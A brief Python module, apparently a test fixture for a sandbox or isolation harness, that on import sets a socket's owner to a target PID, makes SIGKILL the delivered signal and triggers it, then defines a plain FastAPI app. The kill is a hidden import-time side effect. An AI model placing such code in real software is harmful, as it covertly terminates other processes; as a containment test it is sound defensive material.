"""Attack: make a process the owner of a socket, and SIGKILL the signal that it gets."""

import contextlib
import fcntl
import os
import signal
import socket

from fastapi import FastAPI

from .targets import PID, acted

F_SETSIG = 10
ours, theirs = socket.socketpair()
acted("import")
with contextlib.suppress(OSError):
    fcntl.fcntl(ours, fcntl.F_SETOWN, PID)
    fcntl.fcntl(ours, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    theirs.send(b"now")
app = FastAPI()
